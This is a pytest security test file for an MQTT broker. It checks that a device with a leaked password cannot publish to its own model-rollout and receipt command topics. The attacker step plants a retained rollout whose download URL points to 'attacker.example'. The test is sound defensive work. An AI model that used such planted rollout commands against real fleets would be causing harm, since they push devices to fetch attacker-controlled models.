"""Red-team finding 3: a device (or anyone with its leaked password) could write its own ``cmd/model`` and
``cmd/receipt`` topics: plant a retained rollout pointing anywhere, or fake receipts that make its outbox
delete rows that were never delivered. Command topics are the dashboard's alone, on both engines.

Mosquitto acknowledges a denied PUBLISH and drops it, so "denied" is proven by absence at subscribers that
may read the topic (the device itself, an admin), next to a positive control that does arrive."""

from __future__ import annotations

import time
from datetime import UTC, datetime

import pytest

from broker.codec import encode
from broker.payloads import ModelRollout, NodeStatus, ReceiptMessage, StatusMessage
from broker.topics import model_command_topic, receipt_topic
from tests.security.conftest import Rig
from tests.support.mqtt import Collector

pytestmark = pytest.mark.integration


def _settle(inbox: Collector, control: str, timeout: float = 10.0) -> list[str]:
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline and control not in [t for t, _ in inbox.messages]:
        time.sleep(0.02)
    time.sleep(0.3)  # what should not come has had the same path and more time than the control
    return [t for t, _ in inbox.wait_for(0, 0)]


def test_device_cannot_write_its_command_topics(rig: Rig) -> None:
    dev = rig.victim
    now = datetime.now(UTC)
    rollout = ModelRollout(site=dev.site, device=dev.device, version="evil", url="http://attacker.example/m.onnx",
                           sha256="f" * 64, issued_at=now)
    receipt = ReceiptMessage(site=dev.site, device=dev.device, digests=["0123456789abcdef"], at=now)
    cmd_model, cmd_receipt = model_command_topic(dev.site, dev.device), receipt_topic(dev.site, dev.device)

    watcher = rig.client("ops")  # admin: reads everything
    inbox = Collector(watcher, ["cw/v1/#"])
    device_side = rig.client(dev.device)  # the real edge, subscribed to its commands as it is in production
    device_inbox = Collector(device_side, [f"cw/v1/{dev.site}/{dev.device}/cmd/+"])

    attacker = rig.client(dev.device, dev.password)  # the leaked password
    for topic, payload in ((cmd_model, encode(rollout)), (cmd_receipt, encode(receipt))):
        attacker.publish(topic, payload, qos=1, retain=True).wait_for_publish(5)
    control = dev.topic("status")
    attacker.publish(control, encode(StatusMessage(site=dev.site, device=dev.device, status=NodeStatus.ONLINE,
                                                   at=now)), qos=1).wait_for_publish(5)
    seen = _settle(inbox, control)
    assert control in seen  # the broker took the device's own publishes
    assert cmd_model not in seen and cmd_receipt not in seen
    assert [t for t, _ in device_inbox.wait_for(0, 0)] == []

    # Nothing retained either: a fresh subscriber (the edge after a restart) gets no planted rollout.
    late = rig.client(dev.device)
    late_inbox = Collector(late, [cmd_model, cmd_receipt])
    dashboard = rig.client("dashboard")  # positive control: the dashboard may command
    real = rollout.model_copy(update={"version": "2026.12", "url": "/api/v1/models/2026.12/file"})
    dashboard.publish(cmd_model, encode(real), qos=1, retain=True).wait_for_publish(5)
    got = late_inbox.wait_for(1, 10)
    time.sleep(0.3)
    assert [(t, ModelRollout.model_validate_json(p).version) for t, p in late_inbox.wait_for(0, 0)] == [
        (cmd_model, "2026.12")], got
    for c in (watcher, device_side, attacker, late, dashboard):
        c.disconnect()
        c.loop_stop()


def test_device_still_publishes_every_kind_it_sends(rig: Rig) -> None:
    """The narrower ACL still lets a device publish status, heartbeat, health, state and event."""
    dev = rig.victim
    watcher = rig.client("ops")
    inbox = Collector(watcher, ["cw/v1/#"])
    topics = [dev.topic(k) for k in ("status", "heartbeat", "health", "state", "event")]
    rig.publish(dev.device, [(t, b"{}") for t in topics])
    assert sorted(t for t, _ in inbox.wait_for(len(topics), 10)) == sorted(topics)
    watcher.disconnect()
    watcher.loop_stop()
